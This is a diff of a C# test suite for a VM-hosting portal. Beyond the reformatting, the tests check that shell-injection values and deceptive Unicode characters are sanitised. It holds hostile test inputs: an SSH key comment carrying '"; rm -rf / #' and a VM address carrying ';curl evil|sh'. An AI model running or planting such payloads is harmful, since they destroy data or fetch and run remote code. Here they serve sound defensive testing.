@@ -18,8 +18,8 @@ public sealed class WhatOthersRunInAShell
     private const string Comment = "\"; rm -rf / #";
 
     /// <summary>Type and key of a well-formed line.</summary>
-    private static readonly string Key = "ssh-ed25519 "
-        + Convert.ToBase64String([0, 0, 0, 11, .. "ssh-ed25519"u8, .. Length(32), .. new byte[32]]);
+    private static readonly string Key =
+        "ssh-ed25519 " + Convert.ToBase64String([0, 0, 0, 11, .. "ssh-ed25519"u8, .. Length(32), .. new byte[32]]);
 
     private static byte[] Length(int value)
     {
@@ -53,8 +53,17 @@ public sealed class WhatOthersRunInAShell
         (await asha.PostAsync("/vm/allocate", new { ssh_public_key = Key + " asha@laptop" })).Expect(201);
         Assert.Equal([Key, Key + " asha@laptop"], await ToldAsync(portal));
         var juma = await portal.SignUpAsync("juma");
-        (await juma.PostAsync("/plan/choose",
-            new { plan_id = "vms-5", accept_terms = true, ssh_public_key = $"{Key} {Comment}" })).Expect(201);
+        (
+            await juma.PostAsync(
+                "/plan/choose",
+                new
+                {
+                    plan_id = "vms-5",
+                    accept_terms = true,
+                    ssh_public_key = $"{Key} {Comment}",
+                }
+            )
+        ).Expect(201);
         Assert.DoesNotContain("rm -rf", await portal.FactsAsync(), StringComparison.Ordinal);
     }
 
@@ -64,13 +73,18 @@ public sealed class WhatOthersRunInAShell
         await using var portal = await Portal.StartAsync(db, Portal.Machines(1));
         var asha = await portal.SignUpWithPlanAsync("asha");
         (await asha.AllocateAsync()).Expect(201);
-        await portal.Writer.RunAsync("test.seed", new("operator", "tester"), async unit =>
-        {
-            await unit.Db.VmAllocations.ExecuteUpdateAsync(set =>
-                set.SetProperty(a => a.SshPublicKey, $"{Key} {Comment}"));
-            await unit.Db.Outbox.ExecuteDeleteAsync();
-            await DeployerNotices.AssignAgainAsync(unit, await unit.Db.Accounts.SingleAsync());
-        });
+        await portal.Units.RunAsync(
+            "test.seed",
+            new("operator", "tester"),
+            async unit =>
+            {
+                await unit.Db.VmAllocations.ExecuteUpdateAsync(set =>
+                    set.SetProperty(a => a.SshPublicKey, $"{Key} {Comment}")
+                );
+                await unit.Db.Outbox.ExecuteDeleteAsync();
+                await DeployerNotices.AssignAgainAsync(unit, await unit.Db.Accounts.SingleAsync());
+            }
+        );
         Assert.Equal([Key], await ToldAsync(portal));
     }
 
@@ -117,8 +131,11 @@ public sealed class WhatOthersRunInAShell
         if (accepted)
             reply.Expect(200);
         else
-            Assert.Contains("must be an IP address or a host name",
-                reply.ExpectRefusal(Refusals.PoolInvalid).Body, StringComparison.Ordinal);
+            Assert.Contains(
+                "must be an IP address or a host name",
+                reply.ExpectRefusal(Refusals.PoolInvalid).Body,
+                StringComparison.Ordinal
+            );
     }
 
     [Fact]
@@ -138,9 +155,13 @@ public sealed class WhatOthersRunInAShell
         var asha = await portal.SignUpWithPlanAsync("asha");
         var sid = (await asha.AllocateAsync()).Expect(201).Text("sid");
         (await asha.AllocateAsync()).Expect(201);
-        await portal.Writer.RunAsync("test.seed", new("operator", "tester"), unit =>
-            unit.Db.VmAllocations.Where(a => a.Sid == sid)
-                .ExecuteUpdateAsync(set => set.SetProperty(a => a.Address, "10.0.0.1;curl evil|sh")));
+        await portal.Units.RunAsync(
+            "test.seed",
+            new("operator", "tester"),
+            unit =>
+                unit.Db.VmAllocations.Where(a => a.Sid == sid)
+                    .ExecuteUpdateAsync(set => set.SetProperty(a => a.Address, "10.0.0.1;curl evil|sh"))
+        );
         var page = (await asha.Browser.OpenAsync("/dashboard")).Expect(200).Body;
         Assert.Contains("10.0.0.1;curl evil|sh", page, StringComparison.Ordinal);
         Assert.DoesNotContain("data-copy=\"10.0.0.1;curl", page, StringComparison.Ordinal);
@@ -151,7 +172,8 @@ public sealed class WhatOthersRunInAShell
     [Fact]
     public void Characters_that_deceive_are_removed_and_letters_of_all_scripts_stay()
     {
-        const string deceiving = "\u061c\u200b\u200e\u200f\u2028\u2029\u202a\u202b\u202c\u202d\u202e\u2060"
+        const string deceiving =
+            "\u061c\u200b\u200e\u200f\u2028\u2029\u202a\u202b\u202c\u202d\u202e\u2060"
             + "\u2066\u2067\u2068\u2069\ufeff";
         foreach (var c in deceiving)
         {
@@ -173,25 +195,45 @@ public sealed class WhatOthersRunInAShell
         const string reason = "pays\u202e to\u2066morrow\u200b, ашá";
         (await asha.PostAsync("/vm/replace", new { allocation_sid = first, problem = reason })).Expect(201);
         (await portal.AdminPostAsync("/admin/vm-release", new { allocation_sid = second, reason })).Expect(200);
-        (await portal.AdminPostAsync("/admin/credit-adjust", new { user_sid = asha.Sid, amount_cents = 100, reason }))
-            .Expect(200);
+        (
+            await portal.AdminPostAsync(
+                "/admin/credit-adjust",
+                new
+                {
+                    user_sid = asha.Sid,
+                    amount_cents = 100,
+                    reason,
+                }
+            )
+        ).Expect(200);
         (await portal.AdminPostAsync("/admin/pool-vm-quarantine", new { pool_vm_id = "vm-0003", reason })).Expect(200);
         (await portal.AdminPostAsync("/admin/kyc-unverify", new { user_sid = asha.Sid, reason })).Expect(200);
         (await portal.AdminPostAsync("/admin/user-suspend", new { user_sid = asha.Sid, reason })).Expect(200);
         var stored = await portal.FactsAsync();
         Assert.DoesNotContain(stored, SafeText.IsDeceiving);
-        Assert.Equal("pays tomorrow, ашá",
-            await portal.ReadAsync(d => d.Accounts.Select(a => a.SuspendedReason).SingleAsync()));
+        Assert.Equal(
+            "pays tomorrow, ашá",
+            await portal.ReadAsync(d => d.Accounts.Select(a => a.SuspendedReason).SingleAsync())
+        );
         // A reason of such characters only is none.
-        (await portal.AdminPostAsync("/admin/user-unsuspend",
-            new { user_sid = asha.Sid, reason = "\u202e\u202e\u202e\u202e" })).ExpectRefusal(Refusals.ReasonRequired);
+        (
+            await portal.AdminPostAsync(
+                "/admin/user-unsuspend",
+                new { user_sid = asha.Sid, reason = "\u202e\u202e\u202e\u202e" }
+            )
+        ).ExpectRefusal(Refusals.ReasonRequired);
     }
 
     /// <summary>The keys in the notices of hand-outs, in the order in which they were queued.</summary>
     private static async Task<IReadOnlyList<string>> ToldAsync(Portal portal) =>
-    [
-        .. (await portal.ReadAsync(d => d.Outbox.Where(r => r.Kind == DeployerNotices.AssignKind).OrderBy(r => r.Sid)
-            .Select(r => r.Body).ToListAsync()))
-            .Select(body => JsonDocument.Parse(body).RootElement.GetProperty("ssh_public_key").GetString()!),
-    ];
+        [
+            .. (
+                await portal.ReadAsync(d =>
+                    d.Outbox.Where(r => r.Kind == DeployerNotices.AssignKind)
+                        .OrderBy(r => r.Sid)
+                        .Select(r => r.Body)
+                        .ToListAsync()
+                )
+            ).Select(body => JsonDocument.Parse(body).RootElement.GetProperty("ssh_public_key").GetString()!),
+        ];
 }
